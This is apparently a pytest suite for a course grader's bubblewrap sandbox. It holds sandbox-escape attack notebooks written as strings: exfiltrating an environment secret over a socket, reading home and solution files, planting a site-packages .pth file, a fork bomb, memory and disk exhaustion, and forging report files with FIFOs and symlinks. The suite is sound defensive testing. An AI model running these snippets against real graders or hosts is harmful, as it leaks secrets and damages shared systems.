"""The grader's sandbox, attacked: submissions that try to leak, harm or outlive grading must get nothing.

Each attack is a learner notebook whose code sets ``got`` to what the attack obtained (a secret, True for a write that
went through ...) and whose released check is ``assert got``: a run that obtains nothing fails its check, so every
attack must be graded not ok. Besides the verdicts, the test looks outside: the home file, the kit, the venv's
site-packages and the other submissions unchanged, no process left, nothing received by a server on the host.
Model-free: each notebook runs in a few seconds.
"""

import contextlib
import csv
import io
import os
import socket
import subprocess
import sys
import sysconfig
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from coursetools import sandbox
from coursetools.grading.cli import main as grade_main
from coursetools.grading.extract import validate_dataset
from coursetools.grading.labels import SANDBOX_LABELS, UNCONFINED_WARNING
from coursetools.grading.pipeline import grade_folder
from coursetools.grading.prepare import KIT_ROOT, hash_folder

TIMEOUT = 60
# CI installs bubblewrap (.ci/run) and sets KIT_REQUIRE_SANDBOX=1: there a missing bwrap fails instead of skipping.
needs_bwrap = pytest.mark.skipif(sandbox.find_bwrap() is None and os.environ.get("KIT_REQUIRE_SANDBOX") != "1",
                                 reason="bubblewrap (bwrap) is not installed: apt-get install bubblewrap")
SECRET = "kit-sandbox-secret-7f3a"
RELEASED = "# CHECK: got\nassert got, 'the attack obtained nothing'"
SLEEPER = "kit-sandbox-leftover"  # the argv of the process an attack leaves behind
GIB_FOR_TEST = 1024 ** 3
sandbox_limits = sandbox.Limits  # the real class, before the attack fixture lowers the memory budget


def write_notebook(path, source):
    """Write a two-cell notebook: the learner's code, then the check."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source), nbformat.v4.new_code_cell(RELEASED)])
    nbformat.write(nb, path)


def listen_on_host():
    """Return (port, received bytes list): a TCP server on the host's loopback that records whatever it is sent."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received = []

    def serve():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                received.append(connection.recv(1024))

    threading.Thread(target=serve, daemon=True).start()
    return server, received


def build_attacks(folder: Path, port: int) -> dict[str, str]:
    """Return the attack notebooks' code by name; each sets ``got`` to what it obtained."""
    site_packages = sysconfig.get_paths()["purelib"]
    solution = KIT_ROOT / "solutions" / "preference_dpo_dataset.ipynb"
    return {
        "network_host": (
            "import socket, os\ngot = None\ntry:\n"
            f"    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as s:\n"
            f"        s.sendall(os.environ.get('KIT_TEST_SECRET', 'none').encode()); got = True\n"
            "except OSError:\n    pass"),
        "network_outside": (
            "import socket\ngot = None\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=3); got = True\n"
            "except OSError:\n    pass"),
        "environment_secret": "import os\ngot = os.environ.get('KIT_TEST_SECRET')",
        "home_secret": (f"from pathlib import Path\np = Path({str(Path.home())!r}) / '.kit-sandbox-secret'\n"
                        "got = p.read_text() if p.exists() else None"),
        "solution_read": f"import os\np = {str(solution)!r}\ngot = open(p).read() if os.path.exists(p) else None",
        "other_submission": (f"got = None\ntry:\n    open({str(folder / 'z_honest.ipynb')!r}, 'w').write('{{}}'); got = True\n"
                             "except OSError:\n    pass"),
        "site_packages": (f"got = None\ntry:\n    open({site_packages + '/kit_planted.pth'!r}, 'w').write('import os'); got = True\n"
                          "except OSError:\n    pass"),
        "kit_copy": ("import helpers\nfrom pathlib import Path\ngot = None\ntry:\n"
                     "    with open(Path(helpers.__file__).with_name('checks.py'), 'a') as f:\n        f.write('#')\n"
                     "    got = True\nexcept OSError:\n    pass"),
        "signal_grader": (f"import os\ngot = None\ntry:\n    os.kill({os.getpid()}, 0); got = True\n"
                          "except OSError:\n    pass"),
        "leftover_process": (
            "import subprocess\n"
            f"subprocess.Popen(['sh', '-c', 'exec -a {SLEEPER} sleep 600'], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\ngot = None"),
        "fork_storm": (
            "import os, time\ngot, children = None, []\ntry:\n    for _ in range(5000):\n        pid = os.fork()\n"
            "        if pid == 0:\n            time.sleep(30); os._exit(0)\n        children.append(pid)\n"
            "    got = True\nexcept OSError:\n    pass\nprint(len(children), 'processes')"),
        "huge_file": ("got = None\ntry:\n    with open('big', 'wb') as f:\n        f.truncate(3 * 1024 ** 3)\n"
                      "    got = True\nexcept OSError:\n    pass"),
        "huge_memory": "got = None\ntry:\n    block = bytearray(20 * 1024 ** 3); got = True\nexcept MemoryError:\n    pass",
        # Files the grader reads back after the run: the report forged as a FIFO (would hang an open()) and pytest's
        # output replaced by a link to a secret; then pytest is killed, so that no real report is written.
        "report_fifo": ("import os, signal\nos.mkfifo(os.path.join(os.environ['KIT_GRADING_RUN'], 'report.xml'))\n"
                        "got = True\nos.kill(os.getppid(), signal.SIGKILL)"),
        "output_link": ("import os, signal\nrun = os.environ['KIT_GRADING_RUN']\n"
                        f"os.symlink({str(Path.home() / '.kit-sandbox-secret')!r}, os.path.join(run, 'pytest-output.txt'))\n"
                        "got = True\nos.kill(os.getppid(), signal.SIGKILL)"),
        # Shared memory is not counted by RLIMIT_DATA: the grader's watch stops the run (limit lowered by the test).
        "shared_memory": ("import mmap\nblock = mmap.mmap(-1, 1536 * 1024 ** 2)\n"
                          "for i in range(0, len(block), 4096):\n    block[i] = 1\n"
                          "import time\ntime.sleep(20)\ngot = True"),
    }


def read_rows(csv_path):
    """Return the rows of a grades.csv by notebook name."""
    with open(csv_path, newline="", encoding="utf-8-sig") as handle:
        return {row["notebook"]: row for row in csv.DictReader(handle)}


def find_sleepers():
    """Return the live processes an attack left behind."""
    return [p for p in psutil.process_iter(["cmdline"]) if SLEEPER in " ".join(p.info.get("cmdline") or [])]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """Grade the attacks and one honest notebook in the sandbox, two at a time; record what is outside before and after."""
    root = tmp_path_factory.mktemp("attacks")
    folder, out = root / "class", root / "out"
    folder.mkdir()
    server, received = listen_on_host()
    home_secret = Path.home() / ".kit-sandbox-secret"
    home_secret.write_text(SECRET)
    attacks = build_attacks(folder, server.getsockname()[1])
    for name, source in attacks.items():
        write_notebook(folder / f"a_{name}.ipynb", source)
    write_notebook(folder / "z_honest.ipynb", "got = 1 + 1 == 2")
    honest = (folder / "z_honest.ipynb").read_bytes()
    site_packages = Path(sysconfig.get_paths()["purelib"])
    before = {"kit": hash_folder(KIT_ROOT / "helpers"), "site": sorted(p.name for p in site_packages.iterdir())}
    os.environ["KIT_TEST_SECRET"] = SECRET
    started = time.monotonic()
    patch = pytest.MonkeyPatch()
    # 1 GB for the whole run: the honest notebook's kernel uses well under it, the shared-memory attack 1.5 GB.
    patch.setattr(sandbox, "Limits", lambda: sandbox_limits(run_memory_bytes=GIB_FOR_TEST))
    try:
        with contextlib.redirect_stderr(io.StringIO()):
            grade_folder(folder, TIMEOUT, out, jobs=2)
    finally:
        patch.undo()
        del os.environ["KIT_TEST_SECRET"]
        home_secret.unlink()
        server.close()
    yield {
        "rows": read_rows(out / "grades.csv"), "attacks": attacks, "received": received, "out": out,
        "seconds": time.monotonic() - started, "leftovers": find_sleepers(), "honest": honest, "folder": folder,
        "before": before, "after": {"kit": hash_folder(KIT_ROOT / "helpers"),
                                    "site": sorted(p.name for p in site_packages.iterdir())},
    }
    for process in find_sleepers():  # a failed test must not leave the attack's process behind
        process.kill()


@needs_bwrap
def test_every_attack_is_graded_not_ok(attacked):
    statuses = {name: attacked["rows"][f"a_{name}.ipynb"]["status"] for name in attacked["attacks"]}
    assert all(status != "ok" for status in statuses.values()), statuses
    # Each failed its check because the attack obtained nothing (not because the run broke).
    checks = {name: attacked["rows"][f"a_{name}.ipynb"]["got"] for name in attacked["attacks"]}
    stopped = {"report_fifo", "output_link", "shared_memory"}  # the check never runs: pytest killed, run stopped
    assert {name: value for name, value in checks.items() if name not in stopped} == dict.fromkeys(
        set(checks) - stopped, "fail")
    assert {checks[name] for name in stopped} == {"not_run"}, checks
    details = {name: attacked["rows"][f"a_{name}.ipynb"]["detail"] for name in stopped}
    assert details["shared_memory"].startswith("đã dừng: dùng quá"), details
    assert SECRET not in str(attacked["rows"]) and SECRET not in "".join(
        path.read_text(encoding="utf-8") for path in (attacked["out"] / "feedback").glob("*.txt"))


@needs_bwrap
def test_the_honest_submission_passes_in_the_sandbox(attacked):
    honest = attacked["rows"]["z_honest.ipynb"]
    assert (honest["status"], honest["got"], honest["sandbox"]) == ("ok", "pass", SANDBOX_LABELS[True])
    assert (attacked["folder"] / "z_honest.ipynb").read_bytes() == attacked["honest"]


@needs_bwrap
def test_nothing_outside_changed_and_nothing_was_sent(attacked):
    assert attacked["received"] == []
    assert attacked["after"] == attacked["before"]


@needs_bwrap
def test_no_process_survives_the_runs(attacked):
    assert attacked["leftovers"] == []
    # The fork storm was stopped by the process cap, not by the notebook's timeout.
    assert attacked["seconds"] < 4 * TIMEOUT


@needs_bwrap
def test_every_row_says_it_ran_sandboxed(attacked):
    assert {row["sandbox"] for row in attacked["rows"].values()} == {SANDBOX_LABELS[True]}
    assert UNCONFINED_WARNING not in (attacked["out"] / "grades.txt").read_text(encoding="utf-8")


def test_without_bubblewrap_grading_stops_with_a_clear_message(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    write_notebook(folder / "n.ipynb", "got = True")
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    assert grade_main([str(folder), "--out", str(tmp_path / "out")]) == 2
    error = capsys.readouterr().err
    assert "bubblewrap" in error and "apt-get install bubblewrap" in error and "--no-sandbox" in error
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_no_sandbox_is_written_on_every_row(tmp_path, monkeypatch):
    folder, out = tmp_path / "class", tmp_path / "out"
    folder.mkdir()
    write_notebook(folder / "n.ipynb", "got = True")
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)  # --no-sandbox needs no bubblewrap
    with contextlib.redirect_stderr(io.StringIO()):
        grade_folder(folder, TIMEOUT, out, sandboxed=False)
    assert read_rows(out / "grades.csv")["n.ipynb"]["sandbox"] == SANDBOX_LABELS[False]
    assert (out / "grades.txt").read_text(encoding="utf-8").startswith(UNCONFINED_WARNING)


def test_parents_of_bound_folders_are_made_traversable():
    found = sandbox.find_parents_inside([Path("/root/.pyenv/versions/3.11"), Path("/tmp/a/b/run")],
                                        [Path("/root"), Path("/tmp")])
    assert found == [Path("/root/.pyenv"), Path("/root/.pyenv/versions"), Path("/tmp/a"), Path("/tmp/a/b")]


@needs_bwrap
def test_a_kit_under_tmp_stays_usable_and_hidden(tmp_path):
    # A fresh clone lives in /tmp: the kit's folder is hidden, its venv bound back inside it, the run folder beside it.
    kit, run = tmp_path / "clone" / "kit", tmp_path / "runs" / "r1"
    (kit / ".venv").mkdir(parents=True)
    (kit / ".venv" / "tool.txt").write_text("venv")
    (kit / "solutions.txt").write_text("secret")
    run.mkdir(parents=True)
    box = sandbox.Sandbox(writable=run, read_only=(*sandbox.interpreter_paths(), kit / ".venv"), hidden=(Path.home(), kit))
    sandbox.give_to_run_user(run)
    code = (f"import os; print(open({str(kit / '.venv' / 'tool.txt')!r}).read(), os.path.exists({str(kit / 'solutions.txt')!r}));"
            "open('mine.txt', 'w').write('ok')")
    result = subprocess.run(sandbox.build_command([sys.executable, "-c", code], box), capture_output=True, text=True,
                            preexec_fn=sandbox.make_limiter(box.limits))
    assert (result.returncode, result.stdout) == (0, "venv False\n"), result.stderr
    assert (run / "mine.txt").read_text() == "ok"


def test_the_command_hides_and_clears(tmp_path, monkeypatch):
    monkeypatch.setenv("KIT_TEST_SECRET", SECRET)
    monkeypatch.setenv("KIT_DTYPE", "float32")
    box = sandbox.Sandbox(writable=tmp_path, hidden=(Path.home(),), env={"HOME": str(tmp_path)})
    command = sandbox.build_command([sys.executable, "-c", "pass"], box)
    text = " ".join(command)
    assert "--unshare-net" in command and "--clearenv" in command and "--die-with-parent" in command
    assert f"--tmpfs {Path.home()}" in text and f"--bind {tmp_path} {tmp_path}" in text
    assert "--tmpfs /run" in text  # D-Bus, systemd's user manager, docker.sock: services that act outside
    assert SECRET not in text and "--setenv KIT_DTYPE float32" in text
    assert any(Path(part).name == "setpriv" and Path(part).is_absolute() for part in command) == sandbox.is_root()


def test_a_sandbox_that_cannot_start_stops_grading_first(tmp_path, monkeypatch, capsys):
    folder = tmp_path / "class"
    folder.mkdir()
    write_notebook(folder / "n.ipynb", "got = True")
    refused = ["sh", "-c", "echo 'bwrap: setting up uid map: Permission denied' >&2; exit 1"]
    monkeypatch.setattr(sandbox, "find_bwrap", lambda: "/usr/bin/bwrap")
    monkeypatch.setattr(sandbox, "build_command", lambda command, box, bwrap="bwrap": refused)
    assert grade_main([str(folder), "--out", str(tmp_path / "out")]) == 2
    error = capsys.readouterr().err
    assert "setting up uid map" in error and "user namespace" in error and "--no-sandbox" in error
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_files_the_run_replaced_are_not_followed(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    (tmp_path / "link").symlink_to(secret)
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "big").write_bytes(b"x" * 100)
    (tmp_path / "plain").write_bytes(b"<testsuite/>")
    assert sandbox.read_regular_file(tmp_path / "link", 1000) is None
    assert sandbox.read_regular_file(tmp_path / "fifo", 1000) is None  # returns at once: O_NONBLOCK
    assert sandbox.read_regular_file(tmp_path / "big", 10) is None
    assert sandbox.read_regular_file(tmp_path / "plain", 1000) == b"<testsuite/>"


def test_a_dataset_folder_with_links_or_fifos_is_not_read(tmp_path):
    dataset = tmp_path / "dataset"
    dataset.mkdir()
    (dataset / "dataset_info.json").write_text("{}")
    assert sandbox.find_unsafe_entry(dataset, 10 ** 6) == ""
    (dataset / "data-00000-of-00001.arrow").symlink_to(Path.home() / ".ssh" / "id_rsa")
    assert "không phải tệp thường" in sandbox.find_unsafe_entry(dataset, 10 ** 6)
    (dataset / "data-00000-of-00001.arrow").unlink()
    os.mkfifo(dataset / "state.json")
    assert "không phải tệp thường" in sandbox.find_unsafe_entry(dataset, 10 ** 6)
    (tmp_path / "elsewhere").symlink_to(dataset, target_is_directory=True)
    assert "không phải một thư mục thường" in sandbox.find_unsafe_entry(tmp_path / "elsewhere", 10 ** 6)
    seen = []
    status, message = validate_dataset(seen.append, dataset)
    assert status == "fail" and "state.json" in message and seen == []  # the check never ran on it
